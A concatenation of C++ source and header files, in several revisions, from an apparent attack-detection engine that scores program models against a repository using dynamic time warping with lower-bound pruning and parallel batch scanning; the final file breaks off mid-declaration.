double compiled_cst_bbs_distance_lower_bound(
    const CompiledTarget& target, const CompiledRepository& repo,
    std::size_t model_index, ElementDistanceMemo& memo,
    const DtwConfig& config, ElementDistanceMemo::Stats* memo_stats);

/// == cst_bbs_distance_lower_bound_kim(target, model, config): the O(1)
/// endpoints-only stage of the scan cascade. The two element distances it
/// pays go through the memo, so a later envelope/DP stage reuses them.
double compiled_cst_bbs_distance_lower_bound_kim(
    const CompiledTarget& target, const CompiledRepository& repo,
    std::size_t model_index, ElementDistanceMemo& memo,
    const DtwConfig& config, ElementDistanceMemo::Stats* memo_stats);

/// == similarity(target, model, config).
double compiled_similarity(const CompiledTarget& target,
                           const CompiledRepository& repo,
                           std::size_t model_index, ElementDistanceMemo& memo,
                           const DtwConfig& config,
                           ElementDistanceMemo::Stats* memo_stats = nullptr);

/// == bounded_similarity(target, model, min_similarity, config): same
/// scores AND the same PruneKind decisions.
BoundedScore compiled_bounded_similarity(
    const CompiledTarget& target, const CompiledRepository& repo,
    std::size_t model_index, ElementDistanceMemo& memo, double min_similarity,
    const DtwConfig& config,
    ElementDistanceMemo::Stats* memo_stats = nullptr);

/// Flushes memo statistics to the metrics registry counters
/// "compiled.memo_hits" / "compiled.memo_misses".
void flush_memo_stats(const ElementDistanceMemo::Stats& stats);

}  // namespace scag::core
