// Parallel batch-scan engine: scans N targets against the M models of a
// Detector's repository concurrently, with optional DTW pruning.
//
// Guarantees (verified by tests/test_parallel_scan.cpp):
//   - With pruning disabled (the default), scan_all returns Detections
//     that are bit-identical to calling Detector::scan on each target
//     serially — same verdicts, same scores, same ordering — at any
//     thread count, on every run. Work distribution is dynamic, but every
//     score lands in a slot determined only by (target, model) index and
//     the reduction reuses Detector::finalize.
//   - With pruning enabled, comparisons that provably cannot reach the
//     detection threshold or beat the target's best score so far are
//     skipped (O(n+m) lower bound) or truncated (early-abandoned DP). The
//     verdict is still always identical to the serial path, and whenever
//     the verdict is an attack, best_score and the best-matching model
//     are identical too. Only sub-best entries may carry an upper bound
//     instead of the exact score; those are flagged ModelScore::pruned.
//     Pruning decisions depend only on the enrollment order, never on
//     thread scheduling, so pruned runs are also deterministic.
//
// Both modes run through the Detector's compiled fast path
// (core/compiled.h) when it is enabled (the default); the compiled
// kernels are themselves bit-identical to the string kernels, so the
// guarantees above hold regardless of Detector::use_compiled().
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <vector>

#include "core/detector.h"
#include "support/thread_pool.h"

namespace scag::core {

struct BatchConfig {
  /// Parallel lanes; 0 = all hardware threads, 1 = serial (still goes
  /// through the engine, useful for equivalence testing).
  std::size_t threads = 0;
  /// Enable the DTW fast paths (lower-bound skip + early abandon).
  bool prune = false;
  /// Pairs per work chunk when pruning is off (pruning works per target
  /// row so its best-so-far cutoff stays deterministic).
  std::size_t grain = 16;
};

/// Cumulative pruning counters across all scans of one BatchDetector.
struct BatchStats {
  std::uint64_t pairs = 0;            // (target, model) comparisons issued
  std::uint64_t exact = 0;            // computed by the full DP
  std::uint64_t lb_skipped = 0;       // skipped by the O(n+m) lower bound
  std::uint64_t early_abandoned = 0;  // DP abandoned mid-way
};

class BatchDetector {
 public:
  /// Borrows `detector` (repository, DTW config, threshold); it must
  /// outlive the BatchDetector and not be mutated while scans run.
  explicit BatchDetector(const Detector& detector, BatchConfig config = {});

  const BatchConfig& config() const { return config_; }
  const Detector& detector() const { return detector_; }
  std::size_t threads() const { return pool_.size(); }

  /// Scans pre-modeled targets; result[i] is the Detection of targets[i].
  std::vector<Detection> scan_all(const std::vector<CstBbs>& targets) const;

  /// Full pipeline per program: modeling is parallelized across targets,
  /// then the score matrix is scanned. Equivalent to Detector::scan on
  /// each program, except that an instruction-less program (which the
  /// pipeline rejects) is modeled as an empty CST-BBS and scans benign.
  std::vector<Detection> scan_programs(
      const std::vector<isa::Program>& targets) const;

  /// Builds `count` targets with `make_target(i)` (run concurrently on the
  /// engine's pool — it must be thread-safe for distinct i), then scans
  /// them. Lets callers feed models built from pre-collected profiles
  /// without materializing the sequences first.
  std::vector<Detection> scan_modeled(
      std::size_t count,
      const std::function<CstBbs(std::size_t)>& make_target) const;

  /// Single-target convenience; equivalent to Detector::scan.
  Detection scan(const CstBbs& target) const;

  BatchStats stats() const;
  void reset_stats() const;

 private:
  Detection scan_one_pruned(const CstBbs& target) const;

  const Detector& detector_;
  BatchConfig config_;
  mutable support::ThreadPool pool_;
  mutable std::atomic<std::uint64_t> pairs_{0};
  mutable std::atomic<std::uint64_t> exact_{0};
  mutable std::atomic<std::uint64_t> lb_skipped_{0};
  mutable std::atomic<std::uint64_t> early_abandoned_{0};
};

}  // namespace scag::core
