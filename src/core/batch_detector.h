// Parallel batch-scan engine: scans N targets against the M models of a
// Detector's repository concurrently, with optional DTW pruning.
//
// Guarantees (verified by tests/test_parallel_scan.cpp):
//   - With pruning disabled (the default), scan_all returns Detections
//     that are bit-identical to calling Detector::scan on each target
//     serially — same verdicts, same scores, same ordering — at any
//     thread count, on every run. Work distribution is dynamic, but every
//     score lands in a slot determined only by (target, model) index and
//     the reduction reuses Detector::finalize.
//   - With pruning enabled, comparisons that provably cannot reach the
//     detection threshold or beat the target's best score so far are
//     skipped (O(n+m) lower bound) or truncated (early-abandoned DP). The
//     verdict is still always identical to the serial path, and whenever
//     the verdict is an attack, best_score and the best-matching model
//     are identical too. Only sub-best entries may carry an upper bound
//     instead of the exact score; those are flagged ModelScore::pruned.
//     Pruning decisions depend only on the enrollment order, never on
//     thread scheduling, so pruned runs are also deterministic.
//   - With the triage index enabled (BatchConfig::index), each target row
//     runs the lower-bound cascade of core/scan_index.h in the index's
//     visit order. The cutoff is the best exact score only, so verdict,
//     best_score, and the winning model are ALL bit-identical to the
//     serial exhaustive path, for benign targets too (the stronger
//     contract the differential harness tests/differential_scan.h
//     enforces). Visit order depends only on the enrolled models and the
//     target, never on scheduling.
//
// Both modes run through the Detector's compiled fast path
// (core/compiled.h) when it is enabled (the default); the compiled
// kernels are themselves bit-identical to the string kernels, so the
// guarantees above hold regardless of Detector::use_compiled().
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <vector>

#include "core/detector.h"
#include "support/thread_pool.h"

namespace scag::core {

/// Per-scan resilience limits, honored by the outcome-returning APIs.
struct ScanConfig {
  /// Cooperative per-target deadline in milliseconds; 0 = none. Checked
  /// once per DTW DP row and once per repository model, so an oversized or
  /// hostile target returns a ScanStatus::kTimedOut outcome instead of
  /// stalling its worker lane indefinitely.
  std::uint32_t deadline_ms = 0;
};

struct BatchConfig {
  /// Parallel lanes; 0 = all hardware threads, 1 = serial (still goes
  /// through the engine, useful for equivalence testing).
  std::size_t threads = 0;
  /// Enable the DTW fast paths (lower-bound skip + early abandon).
  bool prune = false;
  /// Route each target through the triage index + lower-bound cascade
  /// (core/scan_index.h) instead of the enrollment-order scan. Takes
  /// precedence over `prune` (the cascade subsumes it). Unlike `prune`,
  /// the cascade's cutoff is the best exact score only — never the
  /// threshold — so verdict, best_score, AND the winning model are
  /// bit-identical to the exhaustive path for every target, benign ones
  /// included; sub-best entries may carry flagged upper bounds.
  bool index = false;
  /// Pairs per work chunk when pruning is off (pruning works per target
  /// row so its best-so-far cutoff stays deterministic).
  std::size_t grain = 16;
  /// Limits applied by scan_all_outcomes / scan_programs_outcomes.
  ScanConfig scan;
};

/// How one target of an outcome batch ended.
enum class ScanStatus : std::uint8_t {
  kOk,        // detection is valid
  kError,     // this target failed; the rest of the batch is unaffected
  kTimedOut,  // the ScanConfig::deadline_ms budget ran out mid-scan
};

/// Per-item result of the degrading batch APIs: a verdict, or an isolated
/// error carrying the failed stage and (when fault-injected) the failpoint
/// that caused it. One poisoned target never kills its batch.
struct ScanOutcome {
  ScanStatus status = ScanStatus::kOk;
  Detection detection;    // meaningful only when ok()
  std::string stage;      // pipeline stage that failed: "model" | "scan"
  std::string error;      // one-line cause, empty when ok()
  std::string failpoint;  // name of the injected fault, if one caused this

  bool ok() const { return status == ScanStatus::kOk; }
};

/// Cumulative pruning counters across all scans of one BatchDetector.
struct BatchStats {
  std::uint64_t pairs = 0;            // (target, model) comparisons issued
  std::uint64_t exact = 0;            // computed by the full DP
  std::uint64_t kim_skipped = 0;      // skipped by the O(1) endpoints bound
                                      // (indexed cascade mode only)
  std::uint64_t lb_skipped = 0;       // skipped by the O(n+m) lower bound
  std::uint64_t early_abandoned = 0;  // DP abandoned mid-way
};

class BatchDetector {
 public:
  /// Borrows `detector` (repository, DTW config, threshold); it must
  /// outlive the BatchDetector and not be mutated while scans run.
  explicit BatchDetector(const Detector& detector, BatchConfig config = {});

  const BatchConfig& config() const { return config_; }
  const Detector& detector() const { return detector_; }
  std::size_t threads() const { return pool_.size(); }

  /// Scans pre-modeled targets; result[i] is the Detection of targets[i].
  std::vector<Detection> scan_all(const std::vector<CstBbs>& targets) const;

  /// Full pipeline per program: modeling is parallelized across targets,
  /// then the score matrix is scanned. Equivalent to Detector::scan on
  /// each program, except that an instruction-less program (which the
  /// pipeline rejects) is modeled as an empty CST-BBS and scans benign.
  std::vector<Detection> scan_programs(
      const std::vector<isa::Program>& targets) const;

  /// Builds `count` targets with `make_target(i)` (run concurrently on the
  /// engine's pool — it must be thread-safe for distinct i), then scans
  /// them. Lets callers feed models built from pre-collected profiles
  /// without materializing the sequences first.
  std::vector<Detection> scan_modeled(
      std::size_t count,
      const std::function<CstBbs(std::size_t)>& make_target) const;

  /// Single-target convenience; equivalent to Detector::scan.
  Detection scan(const CstBbs& target) const;

  /// Degrading variant of scan_all: every target yields a ScanOutcome, a
  /// per-target failure (hostile input, injected fault, deadline) is
  /// isolated to its own slot, and the batch always returns. Verdicts are
  /// produced by the same kernels as scan_all, so successful outcomes are
  /// bit-identical to the abort-on-error APIs.
  std::vector<ScanOutcome> scan_all_outcomes(
      const std::vector<CstBbs>& targets) const;

  /// Full degrading pipeline: models then scans each program, reporting
  /// modeling failures with stage "model" and comparison failures with
  /// stage "scan", per item.
  std::vector<ScanOutcome> scan_programs_outcomes(
      const std::vector<isa::Program>& targets) const;

  /// Explains every target against the repository (core/explain.h).
  /// Deliberately serial: explain is a diagnostic path with O(n*m) memory
  /// per (target, model) pair, and its reports are consumed by humans and
  /// files, not the hot scan loop. Defined in explain.cpp.
  std::vector<ScanReport> explain_all(const std::vector<CstBbs>& targets,
                                      const ExplainConfig& config) const;

  BatchStats stats() const;
  void reset_stats() const;

 private:
  Detection scan_one_pruned(const CstBbs& target,
                            std::uint64_t deadline_ns = 0) const;
  Detection scan_one_exact(const CstBbs& target,
                           std::uint64_t deadline_ns) const;
  Detection scan_one_indexed(const CstBbs& target,
                             std::uint64_t deadline_ns = 0) const;
  ScanOutcome scan_outcome_one(const CstBbs& target) const;

  const Detector& detector_;
  BatchConfig config_;
  mutable support::ThreadPool pool_;
  mutable std::atomic<std::uint64_t> pairs_{0};
  mutable std::atomic<std::uint64_t> exact_{0};
  mutable std::atomic<std::uint64_t> kim_skipped_{0};
  mutable std::atomic<std::uint64_t> lb_skipped_{0};
  mutable std::atomic<std::uint64_t> early_abandoned_{0};
};

}  // namespace scag::core
