#include "core/dtw.h"

#include <algorithm>
#include <cmath>
#include <limits>
#include <vector>

#include "core/distance.h"
#include "isa/normalize.h"
#include "support/metrics.h"

namespace scag::core {

namespace {

constexpr double kInf = std::numeric_limits<double>::infinity();

/// Relative slack applied to every pruning comparison so floating-point
/// rounding in the bounds can only make pruning *less* aggressive, never
/// discard a pair whose exact score reaches the cutoff.
constexpr double kPruneSlack = 1e-9;

/// The length-mismatch penalty factor (>= 1) applied by cst_bbs_distance.
double penalty_factor(std::size_t n, std::size_t m, const DtwConfig& config) {
  if (config.length_penalty <= 0.0 || n == 0 || m == 0) return 1.0;
  const double lo = static_cast<double>(std::min(n, m));
  const double hi = static_cast<double>(std::max(n, m));
  return 1.0 + config.length_penalty * (1.0 - lo / hi);
}

/// Accumulated cost -> reported distance (normalization + length penalty),
/// bit-identical to the historical cst_bbs_distance arithmetic.
double finish_distance(const DtwResult& r, std::size_t n, std::size_t m,
                       const DtwConfig& config) {
  double d = r.distance;
  if (config.normalization == DtwNormalization::kPathAveraged &&
      r.path_length > 0)
    d /= static_cast<double>(r.path_length);
  if (config.length_penalty > 0.0 && n > 0 && m > 0) {
    const double lo = static_cast<double>(std::min(n, m));
    const double hi = static_cast<double>(std::max(n, m));
    d *= 1.0 + config.length_penalty * (1.0 - lo / hi);
  }
  return d;
}

double similarity_from_distance(double d, const DtwConfig& config) {
  const double scaled = config.cost_scale * d;
  if (config.gamma == 1.0) return 1.0 / (1.0 + scaled);
  return 1.0 / (1.0 + std::pow(scaled, config.gamma));
}

/// Largest distance whose similarity still reaches `min_similarity`
/// (slightly inflated, see kPruneSlack). +inf when pruning is impossible.
double distance_cutoff(double min_similarity, const DtwConfig& config) {
  if (min_similarity <= 0.0) return kInf;
  if (config.cost_scale <= 0.0 || config.gamma <= 0.0) return kInf;
  if (min_similarity >= 1.0) return 0.0;
  const double x = 1.0 / min_similarity - 1.0;  // (cost_scale*D)^gamma <= x
  const double d =
      (config.gamma == 1.0 ? x : std::pow(x, 1.0 / config.gamma)) /
      config.cost_scale;
  return d * (1.0 + kPruneSlack);
}

/// Scalar per-element features the lower bound runs its envelopes over.
struct EnvelopeFeatures {
  std::vector<double> csp;    // Cst::change(), metric |x - y|
  std::vector<double> count;  // instruction/token count (alphabet histogram)
  std::vector<double> mass;   // semantic weight mass (kSemanticWeighted)
  double csp_lo = kInf, csp_hi = -kInf;
  double count_lo = kInf, count_hi = -kInf;
  double mass_hi = 0.0;
};

EnvelopeFeatures envelope_features(const CstBbs& s, const DistanceConfig& dc) {
  EnvelopeFeatures f;
  f.csp.reserve(s.size());
  f.count.reserve(s.size());
  f.mass.reserve(s.size());
  for (const CstBbsElement& e : s) {
    const double c = e.cst.change();
    double cnt = 0.0, mass = 0.0;
    if (dc.alphabet == IsAlphabet::kFullTokens) {
      cnt = static_cast<double>(e.norm_instrs.size());
    } else {
      cnt = static_cast<double>(e.sem_tokens.size());
      for (const std::string& t : e.sem_tokens)
        mass += isa::semantic_token_weight(t);
    }
    f.csp.push_back(c);
    f.count.push_back(cnt);
    f.mass.push_back(mass);
    f.csp_lo = std::min(f.csp_lo, c);
    f.csp_hi = std::max(f.csp_hi, c);
    f.count_lo = std::min(f.count_lo, cnt);
    f.count_hi = std::max(f.count_hi, cnt);
    f.mass_hi = std::max(f.mass_hi, mass);
  }
  return f;
}

/// Distance from value x to the interval [lo, hi] (0 inside).
double interval_gap(double x, double lo, double hi) {
  if (x > hi) return x - hi;
  if (x < lo) return lo - x;
  return 0.0;
}

/// Per-element lower bound on the instruction-sequence distance D_IS
/// between an element with (count, mass) and ANY element of the other
/// sequence, using only the other side's envelope. Sound because every
/// edit operation changes the token count by at most one and costs at
/// least the cheapest token (weighted mode) or exactly one (full-token
/// mode), while the normalizing denominator is at most the envelope max.
double is_gap(double count, double mass, const EnvelopeFeatures& other,
              const DistanceConfig& dc) {
  const double count_gap =
      interval_gap(count, other.count_lo, other.count_hi);
  if (count_gap <= 0.0) return 0.0;
  if (dc.alphabet == IsAlphabet::kFullTokens) {
    // lev >= |len difference|; denominator max(len_a, len_b).
    const double denom = std::max(count, other.count_hi);
    return denom > 0.0 ? count_gap / denom : 0.0;
  }
  // Weighted mode: each insert/delete costs >= the minimum token weight,
  // and min(1, .) caps the normalized distance at 1.
  const double denom = std::max(mass, other.mass_hi);
  if (denom <= 0.0) return 0.0;
  return std::min(1.0, isa::semantic_min_token_weight() * count_gap / denom);
}

/// O(n+m) lower bound on the *accumulated* DTW cost between a and b.
double accumulated_cost_lower_bound(const CstBbs& a, const CstBbs& b,
                                    const DtwConfig& config) {
  const std::size_t n = a.size(), m = b.size();
  const DistanceConfig& dc = config.distance;

  // LB_Kim: the warping path always pays the (first, first) cost, and —
  // when the path has more than one cell — the (last, last) cost too.
  double kim = cst_distance(a.front(), b.front(), dc);
  if (n + m > 2) kim += cst_distance(a.back(), b.back(), dc);

  // Envelope bounds: the path visits every row and every column at least
  // once, and visited cells are distinct, so per-row (per-column) minimum
  // costs sum into the accumulated cost.
  const EnvelopeFeatures fa = envelope_features(a, dc);
  const EnvelopeFeatures fb = envelope_features(b, dc);
  const double is_w = dc.is_weight;
  const double csp_w = 1.0 - dc.is_weight;

  double rows = 0.0;
  for (std::size_t i = 0; i < n; ++i) {
    rows += csp_w * interval_gap(fa.csp[i], fb.csp_lo, fb.csp_hi) +
            is_w * is_gap(fa.count[i], fa.mass[i], fb, dc);
  }
  double cols = 0.0;
  for (std::size_t j = 0; j < m; ++j) {
    cols += csp_w * interval_gap(fb.csp[j], fa.csp_lo, fa.csp_hi) +
            is_w * is_gap(fb.count[j], fb.mass[j], fa, dc);
  }
  return std::max({kim, rows, cols});
}

}  // namespace

DtwResult dtw(std::size_t n, std::size_t m,
              const std::function<double(std::size_t, std::size_t)>& cost,
              const DtwConfig& config, double abandon_above) {
  // Pruning-stat substrate for every perf PR: how many DP invocations,
  // how many matrix cells they actually filled, how many were cut short.
  // Accumulated locally and flushed once per call so the inner loop stays
  // free of atomics.
  static support::Counter& c_calls =
      support::Registry::global().counter("dtw.calls");
  static support::Counter& c_cells =
      support::Registry::global().counter("dtw.dp_cells");
  static support::Counter& c_abandoned =
      support::Registry::global().counter("dtw.abandoned");
  c_calls.add();
  std::uint64_t cells = 0;

  DtwResult result;
  if (n == 0 && m == 0) return result;
  if (n == 0 || m == 0) {
    result.distance = static_cast<double>(n + m);  // all unmatched, cost 1
    result.path_length = n + m;
    return result;
  }

  const bool may_abandon = std::isfinite(abandon_above);
  // dp[i][j] = min accumulated cost aligning a[0..i) with b[0..j).
  // steps[i][j] = warping-path length achieving it.
  const std::size_t w =
      config.window == 0 ? std::max(n, m)
                         : std::max(config.window,
                                    n > m ? n - m : m - n);  // feasibility

  std::vector<double> prev(m + 1, kInf), cur(m + 1, kInf);
  std::vector<std::size_t> prev_steps(m + 1, 0), cur_steps(m + 1, 0);
  prev[0] = 0.0;

  for (std::size_t i = 1; i <= n; ++i) {
    std::fill(cur.begin(), cur.end(), kInf);
    const std::size_t j_lo = i > w ? i - w : 1;
    const std::size_t j_hi = std::min(m, i + w);
    cells += j_hi - j_lo + 1;
    double row_min = kInf;
    for (std::size_t j = j_lo; j <= j_hi; ++j) {
      const double c = cost(i - 1, j - 1);
      double best = prev[j - 1];        // diagonal
      std::size_t steps = prev_steps[j - 1];
      if (prev[j] < best) {             // insertion
        best = prev[j];
        steps = prev_steps[j];
      }
      if (cur[j - 1] < best) {          // deletion
        best = cur[j - 1];
        steps = cur_steps[j - 1];
      }
      cur[j] = best + c;
      cur_steps[j] = steps + 1;
      row_min = std::min(row_min, cur[j]);
    }
    // Early abandon: any path to (n, m) passes through row i at an in-band
    // cell, and future costs are non-negative, so the final accumulated
    // cost is at least row_min.
    if (may_abandon && row_min > abandon_above) {
      result.distance = row_min;
      result.path_length = 0;
      result.abandoned = true;
      c_cells.add(cells);
      c_abandoned.add();
      return result;
    }
    std::swap(prev, cur);
    std::swap(prev_steps, cur_steps);
  }
  result.distance = prev[m];
  result.path_length = prev_steps[m];
  c_cells.add(cells);
  return result;
}

double cst_bbs_distance(const CstBbs& a, const CstBbs& b,
                        const DtwConfig& config) {
  const DtwResult r =
      dtw(a.size(), b.size(),
          [&a, &b, &config](std::size_t i, std::size_t j) {
            return cst_distance(a[i], b[j], config.distance);
          },
          config);
  return finish_distance(r, a.size(), b.size(), config);
}

double cst_bbs_distance_lower_bound(const CstBbs& a, const CstBbs& b,
                                    const DtwConfig& config) {
  const std::size_t n = a.size(), m = b.size();
  // Degenerate alignments are O(1) to evaluate exactly.
  if (n == 0 || m == 0) return cst_bbs_distance(a, b, config);

  double d = accumulated_cost_lower_bound(a, b, config);
  if (config.normalization == DtwNormalization::kPathAveraged)
    d /= static_cast<double>(n + m - 1);  // the longest possible path
  return d * penalty_factor(n, m, config);
}

double similarity(const CstBbs& a, const CstBbs& b, const DtwConfig& config) {
  return similarity_from_distance(cst_bbs_distance(a, b, config), config);
}

double similarity_upper_bound(const CstBbs& a, const CstBbs& b,
                              const DtwConfig& config) {
  const double d_lb = cst_bbs_distance_lower_bound(a, b, config);
  // Deflate slightly so the bound stays above the exact similarity even
  // under floating-point rounding.
  return similarity_from_distance(d_lb * (1.0 - kPruneSlack), config);
}

BoundedScore bounded_similarity(const CstBbs& a, const CstBbs& b,
                                double min_similarity,
                                const DtwConfig& config) {
  BoundedScore out;
  const std::size_t n = a.size(), m = b.size();
  const double d_cut = distance_cutoff(min_similarity, config);
  // No usable cutoff, or a pair too small for the shortcuts to pay off.
  if (!std::isfinite(d_cut) || n == 0 || m == 0 || n * m <= 16) {
    out.score = similarity(a, b, config);
    return out;
  }

  // Stage 1: O(n+m) lower bound.
  const double d_lb = cst_bbs_distance_lower_bound(a, b, config);
  if (d_lb * (1.0 - kPruneSlack) > d_cut) {
    out.score = similarity_from_distance(d_lb * (1.0 - kPruneSlack), config);
    out.pruned = PruneKind::kLowerBound;
    return out;
  }

  // Stage 2: exact DP with early abandon. Translate the distance cutoff
  // back into accumulated-cost space, conservatively (the true path is at
  // most n+m-1 cells long, the penalty factor is exact).
  const double pf = penalty_factor(n, m, config);
  double acc_limit = d_cut / pf;
  if (config.normalization == DtwNormalization::kPathAveraged)
    acc_limit *= static_cast<double>(n + m - 1);
  acc_limit *= 1.0 + kPruneSlack;

  const DtwResult r =
      dtw(n, m,
          [&a, &b, &config](std::size_t i, std::size_t j) {
            return cst_distance(a[i], b[j], config.distance);
          },
          config, acc_limit);
  if (r.abandoned) {
    double d_ab = r.distance;  // row minimum: accumulated-cost lower bound
    if (config.normalization == DtwNormalization::kPathAveraged)
      d_ab /= static_cast<double>(n + m - 1);
    d_ab *= pf;
    out.score = similarity_from_distance(d_ab * (1.0 - kPruneSlack), config);
    out.pruned = PruneKind::kEarlyAbandon;
    return out;
  }
  out.score = similarity_from_distance(finish_distance(r, n, m, config),
                                       config);
  return out;
}

DtwConfig calibrated_dtw_config() {
  DtwConfig config;
  config.distance.alphabet = IsAlphabet::kSemanticWeighted;
  config.normalization = DtwNormalization::kPathAveraged;
  config.cost_scale = 4.0;
  config.gamma = 3.5;
  config.length_penalty = 0.25;
  return config;
}

}  // namespace scag::core
