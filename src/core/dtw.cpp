#include "core/dtw.h"

#include <algorithm>
#include <cmath>
#include <limits>
#include <vector>

#include "core/distance.h"

namespace scag::core {

DtwResult dtw(std::size_t n, std::size_t m,
              const std::function<double(std::size_t, std::size_t)>& cost,
              const DtwConfig& config) {
  DtwResult result;
  if (n == 0 && m == 0) return result;
  if (n == 0 || m == 0) {
    result.distance = static_cast<double>(n + m);  // all unmatched, cost 1
    result.path_length = n + m;
    return result;
  }

  constexpr double kInf = std::numeric_limits<double>::infinity();
  // dp[i][j] = min accumulated cost aligning a[0..i) with b[0..j).
  // steps[i][j] = warping-path length achieving it.
  const std::size_t w =
      config.window == 0 ? std::max(n, m)
                         : std::max(config.window,
                                    n > m ? n - m : m - n);  // feasibility

  std::vector<double> prev(m + 1, kInf), cur(m + 1, kInf);
  std::vector<std::size_t> prev_steps(m + 1, 0), cur_steps(m + 1, 0);
  prev[0] = 0.0;

  for (std::size_t i = 1; i <= n; ++i) {
    std::fill(cur.begin(), cur.end(), kInf);
    const std::size_t j_lo = i > w ? i - w : 1;
    const std::size_t j_hi = std::min(m, i + w);
    for (std::size_t j = j_lo; j <= j_hi; ++j) {
      const double c = cost(i - 1, j - 1);
      double best = prev[j - 1];        // diagonal
      std::size_t steps = prev_steps[j - 1];
      if (prev[j] < best) {             // insertion
        best = prev[j];
        steps = prev_steps[j];
      }
      if (cur[j - 1] < best) {          // deletion
        best = cur[j - 1];
        steps = cur_steps[j - 1];
      }
      cur[j] = best + c;
      cur_steps[j] = steps + 1;
    }
    std::swap(prev, cur);
    std::swap(prev_steps, cur_steps);
  }
  result.distance = prev[m];
  result.path_length = prev_steps[m];
  return result;
}

double cst_bbs_distance(const CstBbs& a, const CstBbs& b,
                        const DtwConfig& config) {
  const DtwResult r =
      dtw(a.size(), b.size(),
          [&a, &b, &config](std::size_t i, std::size_t j) {
            return cst_distance(a[i], b[j], config.distance);
          },
          config);
  double d = r.distance;
  if (config.normalization == DtwNormalization::kPathAveraged &&
      r.path_length > 0)
    d /= static_cast<double>(r.path_length);
  if (config.length_penalty > 0.0 && !a.empty() && !b.empty()) {
    const double lo = static_cast<double>(std::min(a.size(), b.size()));
    const double hi = static_cast<double>(std::max(a.size(), b.size()));
    d *= 1.0 + config.length_penalty * (1.0 - lo / hi);
  }
  return d;
}

double similarity(const CstBbs& a, const CstBbs& b, const DtwConfig& config) {
  const double d = cst_bbs_distance(a, b, config);
  const double scaled = config.cost_scale * d;
  if (config.gamma == 1.0) return 1.0 / (1.0 + scaled);
  return 1.0 / (1.0 + std::pow(scaled, config.gamma));
}

DtwConfig calibrated_dtw_config() {
  DtwConfig config;
  config.distance.alphabet = IsAlphabet::kSemanticWeighted;
  config.normalization = DtwNormalization::kPathAveraged;
  config.cost_scale = 4.0;
  config.gamma = 3.5;
  config.length_penalty = 0.25;
  return config;
}

}  // namespace scag::core
