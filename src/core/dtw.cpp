#include "core/dtw.h"

#include <algorithm>
#include <cmath>
#include <limits>
#include <vector>

#include "core/distance.h"
#include "core/dtw_internal.h"
#include "isa/normalize.h"
#include "support/metrics.h"

namespace scag::core {

namespace {

/// O(n+m) lower bound on the *accumulated* DTW cost between a and b.
double accumulated_cost_lower_bound(const CstBbs& a, const CstBbs& b,
                                    const SequenceFeatures& fa,
                                    const SequenceFeatures& fb,
                                    const DtwConfig& config) {
  const std::size_t n = a.size(), m = b.size();
  const DistanceConfig& dc = config.distance;

  // LB_Kim: the warping path always pays the (first, first) cost, and —
  // when the path has more than one cell — the (last, last) cost too.
  double kim = cst_distance(a.front(), b.front(), dc);
  if (n + m > 2) kim += cst_distance(a.back(), b.back(), dc);

  return std::max(kim, detail::envelope_lower_bound(fa, fb, dc));
}

}  // namespace

SequenceFeatures compute_sequence_features(const CstBbs& s,
                                           const DistanceConfig& dc) {
  SequenceFeatures f;
  f.csp.reserve(s.size());
  f.count.reserve(s.size());
  f.mass.reserve(s.size());
  for (const CstBbsElement& e : s) {
    const double c = e.cst.change();
    double cnt = 0.0, mass = 0.0;
    if (dc.alphabet == IsAlphabet::kFullTokens) {
      cnt = static_cast<double>(e.norm_instrs.size());
    } else {
      cnt = static_cast<double>(e.sem_tokens.size());
      for (const std::string& t : e.sem_tokens)
        mass += isa::semantic_token_weight(t);
    }
    f.csp.push_back(c);
    f.count.push_back(cnt);
    f.mass.push_back(mass);
    f.csp_lo = std::min(f.csp_lo, c);
    f.csp_hi = std::max(f.csp_hi, c);
    f.count_lo = std::min(f.count_lo, cnt);
    f.count_hi = std::max(f.count_hi, cnt);
    f.mass_hi = std::max(f.mass_hi, mass);
  }
  return f;
}

DtwResult dtw(std::size_t n, std::size_t m,
              const std::function<double(std::size_t, std::size_t)>& cost,
              const DtwConfig& config, double abandon_above) {
  // Forward through a lambda so overload resolution picks the template
  // (calling dtw(n, m, cost, ...) directly would recurse into this
  // wrapper).
  return dtw(
      n, m, [&cost](std::size_t i, std::size_t j) { return cost(i, j); },
      config, abandon_above);
}

double cst_bbs_distance(const CstBbs& a, const CstBbs& b,
                        const DtwConfig& config) {
  const DtwResult r =
      dtw_run(a.size(), b.size(),
              [&a, &b, &config](std::size_t i, std::size_t j) {
                return cst_distance(a[i], b[j], config.distance);
              },
              config);
  return detail::finish_distance(r, a.size(), b.size(), config);
}

double cst_bbs_distance_lower_bound(const CstBbs& a, const CstBbs& b,
                                    const SequenceFeatures& fa,
                                    const SequenceFeatures& fb,
                                    const DtwConfig& config) {
  const std::size_t n = a.size(), m = b.size();
  // Degenerate alignments are O(1) to evaluate exactly.
  if (n == 0 || m == 0) return cst_bbs_distance(a, b, config);

  double d = accumulated_cost_lower_bound(a, b, fa, fb, config);
  if (config.normalization == DtwNormalization::kPathAveraged)
    d /= static_cast<double>(n + m - 1);  // the longest possible path
  return d * detail::penalty_factor(n, m, config);
}

double cst_bbs_distance_lower_bound(const CstBbs& a, const CstBbs& b,
                                    const DtwConfig& config) {
  if (a.empty() || b.empty()) return cst_bbs_distance(a, b, config);
  const SequenceFeatures fa = compute_sequence_features(a, config.distance);
  const SequenceFeatures fb = compute_sequence_features(b, config.distance);
  return cst_bbs_distance_lower_bound(a, b, fa, fb, config);
}

double cst_bbs_distance_lower_bound_kim(const CstBbs& a, const CstBbs& b,
                                        const DtwConfig& config) {
  const std::size_t n = a.size(), m = b.size();
  if (n == 0 || m == 0) return cst_bbs_distance(a, b, config);

  // Exactly the kim term of accumulated_cost_lower_bound, finished with
  // the same (monotone) normalization/penalty arithmetic; since
  // kim <= max(kim, envelope) and both finishes round identically, this
  // bound never exceeds the full lower bound bit-exactly.
  double kim = cst_distance(a.front(), b.front(), config.distance);
  if (n + m > 2) kim += cst_distance(a.back(), b.back(), config.distance);
  if (config.normalization == DtwNormalization::kPathAveraged)
    kim /= static_cast<double>(n + m - 1);  // the longest possible path
  return kim * detail::penalty_factor(n, m, config);
}

double similarity(const CstBbs& a, const CstBbs& b, const DtwConfig& config) {
  return detail::similarity_from_distance(cst_bbs_distance(a, b, config),
                                          config);
}

double similarity_upper_bound(const CstBbs& a, const CstBbs& b,
                              const DtwConfig& config) {
  const double d_lb = cst_bbs_distance_lower_bound(a, b, config);
  // Deflate slightly so the bound stays above the exact similarity even
  // under floating-point rounding.
  return detail::similarity_from_distance(d_lb * (1.0 - detail::kPruneSlack),
                                          config);
}

BoundedScore bounded_similarity(const CstBbs& a, const CstBbs& b,
